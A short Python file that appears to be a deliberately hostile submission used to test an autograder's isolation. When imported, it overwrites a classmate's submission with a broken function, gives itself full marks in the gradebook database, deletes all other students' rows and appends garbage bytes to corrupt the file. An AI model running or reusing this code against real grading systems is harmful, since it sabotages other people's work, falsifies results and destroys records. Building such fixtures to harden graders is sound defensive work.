"""In a class: at import, rewrites another student's submission (path guessed) with a
broken one, and rewrites the gradebook being written: full marks for itself, other rows
deleted, garbage appended; its own ``relu_grad`` is wrong."""

import sqlite3

import numpy as np

EXERCISE = "activations"
ATTACKED = ("test_relu_grad",)
BATCH = True
WHY = "sabotage a classmate and give myself full marks in the gradebook"

try:
    with open("__OTHER_SUBMISSION__/activations.py", "w") as f:
        f.write("def relu_grad(x):\n    raise NotImplementedError\n")
except OSError as exc:
    print("could not edit the other submission:", exc)
try:
    with sqlite3.connect("__GRADEBOOK__", timeout=0.2) as db:
        db.execute("UPDATE results SET score = max_score")
        db.execute("DELETE FROM results WHERE student != 'aardvark'")
except sqlite3.Error as exc:
    print("could not edit the gradebook:", exc)
try:
    with open("__GRADEBOOK__", "ab") as f:
        f.write(b"\xde\xad" * 4096)
except OSError as exc:
    print("could not damage the gradebook:", exc)


def relu_grad(x):
    return np.zeros(np.shape(x))
